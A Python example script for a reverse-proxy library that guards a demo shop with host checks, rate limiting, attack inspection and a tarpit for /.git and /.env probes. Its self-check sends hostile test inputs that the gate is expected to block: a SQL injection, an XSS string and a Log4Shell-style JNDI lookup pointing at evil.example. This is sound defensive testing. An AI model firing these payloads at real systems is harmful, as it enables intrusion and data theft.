"""A gate-keeper: what a proxy in front of a shop lets in, and what it does with the rest.

Below the handler, deadlines and caps for connections. Then, the cheapest refusal first: the names that are served, a
rate for each client, a look for attacks, and rules. Whatever is refused is one line in the security log, by its
severity, and the shop never sees it.

python examples/gate_keeper.py            serves, with a shop of its own behind it, until interrupted
python examples/gate_keeper.py --check    knocks in many ways, prints what came of it, and exits
"""

import asyncio
import logging
import sys
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager

from aiohttp import ClientSession, web

from revproxy import ProxyHandler, Rule, Rules, Severity, Upstream, block, tarpit, when
from revproxy.filters import AllowedHosts, RateLimit
from revproxy.filters.inspect import Exclusion, Inspect
from revproxy.guard import Guard, GuardedRunner
from revproxy.limiters import Gcra

CHECK = "--check" in sys.argv
PORT = 8080


async def shop_answers(request: web.Request) -> web.Response:
    return web.Response(text=f"the shop: {request.method} {request.rel_url}")


def shop() -> web.Application:
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", shop_answers)
    return app


def gate(url: str) -> ProxyHandler:
    """The gate before the shop at ``url``."""
    upstream = Upstream(url, name="shop")
    office = when.client_in("10.0.0.0/8")
    rules = Rules(
        Rule(when.path("/admin/*") & ~office, block(404), name="admin from outside", severity=Severity.ERROR),
        Rule(when.path("/.git/*", "/.env"), tarpit(1.0), name="honey", severity=Severity.NOTICE),
        Rule(when.method("GET", "HEAD", "POST"), upstream),
        Rule(when.anything, block(405), name="method"),
    )
    reviews = Exclusion(ids="xss-*", names="text", when=when.path("/reviews"))  # where the shop itself cleans HTML
    return ProxyHandler(
        rules,
        filters=[
            AllowedHosts("shop.example", "127.0.0.1"),
            RateLimit(Gcra(50, burst=40), fields=True),
            Inspect(exclusions=[reviews]),
        ],
    )


@asynccontextmanager
async def serving(runner: web.AppRunner, port: int = 0) -> AsyncIterator[str]:
    """Serve on the loopback interface; the address."""
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", port).start()
        yield "http://{}:{}".format(*runner.addresses[0][:2])
    finally:
        await runner.cleanup()


async def check(url: str) -> None:
    """Knock as customers do, and as others do."""
    customers = [
        ("GET", "/search?q=O'Brien's+lamp", ""),
        ("POST", "/orders", "item=lamp&note=drop+it+by+the+table%2C+please"),
        ("POST", "/reviews", "text=%3Cb+onclick%3Dx%3Ethe+best%3C/b%3E"),
    ]
    others = [
        ("GET", "/product?id=1'+UNION+SELECT+password+FROM+users--+", "", 403),
        ("GET", "/search?q=<script>alert(1)</script>", "", 403),
        ("POST", "/orders", "item=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", 403),
        ("GET", "/admin/users", "", 404),
        ("DELETE", "/orders", "", 405),
    ]
    async with ClientSession(url) as client:

        async def ask(method: str, path: str, body: str, **fields: str) -> int:
            kind = {"Content-Type": "application/x-www-form-urlencoded"} if body else {}
            async with client.request(method, path, data=body or None, headers={**kind, **fields}) as response:
                assert response.status == 200 or "shop:" not in await response.text()
                return response.status

        for method, path, body in customers:
            status = await ask(method, path, body)
            print(f"  {status} {method} {path}")
            assert status == 200
        for method, path, body, expected in others:
            status = await ask(method, path, body)
            print(f"  {status} {method} {path}")
            assert status == expected
        assert await ask("GET", "/", "", Host="other.example") == 421
        statuses = [await ask("GET", "/", "") for _ in range(60)]
        print(f"  60 at once: {statuses.count(200)} served, {statuses.count(429)} refused")
        assert statuses.count(429) > 0


async def main() -> None:
    logging.basicConfig(format="%(name)s %(levelname)s %(message)s", level=logging.WARNING)
    if CHECK:
        logging.getLogger("revproxy.security").setLevel(logging.CRITICAL + 1)
    async with AsyncExitStack() as stack:
        back_end = await stack.enter_async_context(serving(web.AppRunner(shop())))
        app = web.Application()
        gate(back_end).mount(app)
        runner = GuardedRunner(app, guard=Guard(head=5.0, connections=2000))
        url = await stack.enter_async_context(serving(runner, 0 if CHECK else PORT))
        print(f"the gate on {url}, a shop on {back_end}")
        if CHECK:
            await check(url)
        else:
            await asyncio.Event().wait()


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        print()
